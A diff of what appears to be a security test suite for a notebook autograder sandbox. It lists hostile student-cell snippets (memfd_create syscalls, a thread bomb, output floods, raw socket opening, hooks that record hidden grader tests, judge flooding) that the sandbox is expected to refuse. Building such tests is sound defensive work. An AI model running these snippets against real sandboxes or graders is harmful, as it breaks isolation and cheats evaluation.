 _zz_fd = _zz_libc().syscall(319 if _zz_os.uname().machine == "x86_64" else 279, b"zz", 0)
 if _zz_fd >= 0:
@@ -1722,7 +1722,7 @@ if _zz_shm >= 0:
     _zz_reached("a System V shared memory segment")
 '''},
            NOTHING, "memfd_create through ctypes.syscall, and System V shared memory, are refused too"),
-    Attack("thread_bomb", "processes",
+    Attack("thread_bomb", "class",
            {"fit_line": HONEST + '''
 import threading as _zz_t
 _zz_t.stack_size(64 * 1024)  # small stacks: the address-space limit alone does not stop them
@@ -1743,7 +1743,7 @@ _zz_t.stack_size(0)
 '''},
            NOTHING, "a kernel cannot start thousands of threads (a per-kernel limit of processes and "
            "threads); its later cells still run"),
-    Attack("many_outputs_under_the_cap", "processes",
+    Attack("many_outputs_under_the_cap", "class",
            {"fit_line": HONEST + '''
 import sys as _zz_s
 for _zz_i in range(300):
@@ -1753,14 +1753,14 @@ for _zz_i in range(300):
 '''},
            NOTHING, "600 outputs just under the per-output cap: the notebook's output budget keeps what "
            "comes back small"),
-    Attack("many_tiny_outputs", "processes",
+    Attack("many_tiny_outputs", "class",
            {"fit_line": HONEST + '''
 for _zz_i in range(5_000):
     print("x", flush=True)
 '''},
            NOTHING, "5 000 outputs of one character: the budget counts each output, so the notebook keeps "
            "a bounded number of them"),
-    Attack("control_thread_capabilities", "processes",
+    Attack("control_thread_capabilities", "class",
            {"fit_line": HONEST + '''
 import socket as _zz_socket
 _zz_done = _zz_threading.Event()
@@ -1786,7 +1786,7 @@ except Exception as _zz_e:
 '''},
            NOTHING, "code run on ipykernel's control thread (started before the student's code) has no "
            "capability and cannot open a raw packet or vsock socket"),
-    Attack("odd_socket_families", "processes",
+    Attack("odd_socket_families", "class",
            {"fit_line": HONEST + '''
 import socket as _zz_socket
 for _zz_family, _zz_kind in ((40, _zz_socket.SOCK_STREAM), (_zz_socket.AF_NETLINK, _zz_socket.SOCK_RAW),
@@ -1802,7 +1802,7 @@ for _zz_family, _zz_kind in ((40, _zz_socket.SOCK_STREAM), (_zz_socket.AF_NETLIN
 ]
 
 SECRETS = [
-    Attack("records_every_cell_it_sees", "judge",
+    Attack("records_every_cell_it_sees", "class",
            {"quick_check_answers": WRONG_QUIZ + '''
 _zz_sources = []
 def _zz_record_lines(lines):
@@ -1824,7 +1824,7 @@ print("\\n----\\n".join(sorted(set(_zz_sources + list(In)))))
            QUIZ, "a transformer, a pre_run_cell hook and a profile function record every cell the kernel "
            "runs, and a later cell prints them into its feedback: the hidden tests arrive without their "
            "keys (and comments), so there is nothing to share; its wrong answers cost their points"),
-    Attack("floods_the_judge", "judge",
+    Attack("floods_the_judge", "class",
            {"dead_parameters": HONEST + '''
 import select as _zz_select, time as _zz_time
 _zz_taken = [0]
